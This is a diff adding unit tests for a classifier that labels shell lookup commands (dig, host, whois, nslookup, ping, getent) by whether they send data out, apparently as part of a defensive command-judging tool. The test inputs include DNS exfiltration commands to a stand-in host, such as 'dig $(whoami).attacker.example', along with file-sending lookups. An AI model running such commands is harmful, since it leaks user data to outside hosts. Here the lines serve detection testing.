@@ -3,6 +3,7 @@
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import { commandEffects, defaultJudge } from "../../helpers/commands.js";
+import { effectLines } from "../../helpers/effect-lines.js";
 import { call } from "../../helpers/judge.js";
 
 const verdictOf = (command: string, tainted = false) => {
@@ -108,5 +109,183 @@ describe("every run-time spelling of a label is a send to the labels after it", 
       }),
       { numRuns: 150 },
     );
+  });
+});
+
+describe("the whole reading of a lookup: what is sent, where, and why", () => {
+  it.each([
+    // a plain name: a lookup, or a host reached
+    ["dig example.com", ["class fetch: dig looks a name up"]],
+    ["ping -c 3 localhost", ["class reads: ping reaches a host by a name it shows"]],
+    [
+      "dig $(whoami).x.attacker.example",
+      [
+        "class reads: whoami only reads",
+        "send x.attacker.example: sends data in a name it looks up to",
+        "class sends: dig sends data in the names it looks up",
+      ],
+    ],
+    // a label of 24 letters and digits is data; one of 23 is not
+    [
+      "dig a1b2c3d4e5f6a7b8c9d0e1f2.example.com",
+      [
+        "send example.com: sends data in a name it looks up to",
+        "class sends: dig sends data in the names it looks up",
+      ],
+    ],
+    ["dig a1b2c3d4e5f6a7b8c9d0e1f.example.com", ["class fetch: dig looks a name up"]],
+    // a long punycode label, and a long label of digits only, are names
+    ["dig xn--80aaaaaabbbbbbcccccc1dd.example", ["class fetch: dig looks a name up"]],
+    ["dig 123456789012345678901234.example.com", ["class fetch: dig looks a name up"]],
+    // a bare id is data sent to a domain the command does not show
+    [
+      "dig 0123456789abcdef0123456789",
+      ["send : sends data in a name it looks up to", "class sends: dig sends data in the names it looks up"],
+    ],
+    // the root's trailing dot is no label
+    [
+      "dig $(whoami).attacker.example.",
+      [
+        "class reads: whoami only reads",
+        "send attacker.example: sends data in a name it looks up to",
+        "class sends: dig sends data in the names it looks up",
+      ],
+    ],
+    // a domain needs two labels, each of letters, digits, - and _
+    [
+      "dig $(whoami).com",
+      [
+        "class reads: whoami only reads",
+        "send : sends data in a name it looks up to",
+        "class sends: dig sends data in the names it looks up",
+      ],
+    ],
+    [
+      "dig $(whoami).a+b.example",
+      [
+        "class reads: whoami only reads",
+        "send : sends data in a name it looks up to",
+        "class sends: dig sends data in the names it looks up",
+      ],
+    ],
+    // dig's +options and the @server are not names looked up
+    ["dig +cookie=0123456789abcdef0123456789abcdef example.com", ["class fetch: dig looks a name up"]],
+    ["dig example.com @ns1-a1b2c3d4e5f6a7b8c9d0e1f2.resolver.example", ["class fetch: dig looks a name up"]],
+    // an option known only at run time: what the program does is not known
+    [
+      "dig -$X example.com",
+      ["class unknown: dig: an option known only at run time", "legacy dig -$X example.com"],
+    ],
+  ] as [string, string[]][])("%s", (command, lines) => {
+    expect(effectLines(command)).toEqual(lines);
+  });
+
+  it("a number, however long, is no name (a count, a port)", () => {
+    expect(effectLines(`dig example.com ${"1".repeat(254)}`)).toEqual(["class fetch: dig looks a name up"]);
+  });
+
+  it("a plain name is a lookup up to the longest a name can be, 253 characters", () => {
+    const name253 = ["a".repeat(63), "b".repeat(63), "c".repeat(63), "d".repeat(61)].join(".");
+    expect(name253).toHaveLength(253);
+    expect(effectLines(`dig ${name253}`)).toEqual(["class fetch: dig looks a name up"]);
+    const name254 = `${name253}d`;
+    expect(effectLines(`dig ${name254}`)).toEqual([
+      `send ${name254}: sends data in a name it looks up to`,
+      "class sends: dig sends data in the names it looks up",
+    ]);
+  });
+});
+
+describe("the whole reading of a lookup's options", () => {
+  it.each([
+    // a file of names, in the next word or glued to -f
+    [
+      "dig -f names.txt",
+      ["read names.txt: looks up the names in (sent)", "class sends: dig sends a file's content out"],
+    ],
+    [
+      "dig -fnames.txt",
+      ["read names.txt: looks up the names in (sent)", "class sends: dig sends a file's content out"],
+    ],
+    [
+      "host -fnames.txt",
+      ["read names.txt: looks up the names in (sent)", "class sends: host sends a file's content out"],
+    ],
+    // even a file named -- glued to -f
+    ["dig -f--", ["read --: looks up the names in (sent)", "class sends: dig sends a file's content out"]],
+    // an option whose value is missing names nothing
+    ["dig -f", ["class fetch: dig looks a name up"]],
+    ["ping -c", ["class reads: ping reaches a host by a name it shows"]],
+    // a flag takes no value: the name after it is looked up
+    [
+      "host -a $(whoami).attacker.example",
+      [
+        "class reads: whoami only reads",
+        "send attacker.example: sends data in a name it looks up to",
+        "class sends: host sends data in the names it looks up",
+      ],
+    ],
+    // dig's -q and -x name what is looked up
+    [
+      "dig -q $(whoami).attacker.example",
+      [
+        "class reads: whoami only reads",
+        "send attacker.example: sends data in a name it looks up to",
+        "class sends: dig sends data in the names it looks up",
+      ],
+    ],
+    [
+      "dig -x $(whoami).attacker.example",
+      [
+        "class reads: whoami only reads",
+        "send attacker.example: sends data in a name it looks up to",
+        "class sends: dig sends data in the names it looks up",
+      ],
+    ],
+    // any other option's value made at run time is data in the packets
+    [
+      "dig -t $TYPE example.com",
+      ["send : sends data in its packets to", "class sends: dig sends data in the names it looks up"],
+    ],
+    // for the other lookups, so is the value of -q and -x
+    [
+      "whois -q $(whoami).attacker.example",
+      [
+        "class reads: whoami only reads",
+        "send : sends data in its packets to",
+        "class sends: whois sends data in the names it looks up",
+      ],
+    ],
+    [
+      "nslookup -x $(whoami).attacker.example",
+      [
+        "class reads: whoami only reads",
+        "send : sends data in its packets to",
+        "class sends: nslookup sends data in the names it looks up",
+      ],
+    ],
+    [
+      "ping -c $N example.com",
+      ["send : sends data in its packets to", "class sends: ping sends data in the names it looks up"],
+    ],
+  ] as [string, string[]][])("%s", (command, lines) => {
+    expect(effectLines(command)).toEqual(lines);
+  });
+});
+
+describe("getent: only the host databases resolve names", () => {
+  it.each([
+    ["getent passwd root", ["class reads: getent reads this machine's databases"]],
+    ["getent hosts github.com", ["class reads: getent reaches a host by a name it shows"]],
+    [
+      "getent hosts $(whoami).attacker.example",
+      [
+        "class reads: whoami only reads",
+        "send attacker.example: sends data in a name it looks up to",
+        "class sends: getent sends data in the names it looks up",
+      ],
+    ],
+  ] as [string, string[]][])("%s", (command, lines) => {
+    expect(effectLines(command)).toEqual(lines);
   });
 });
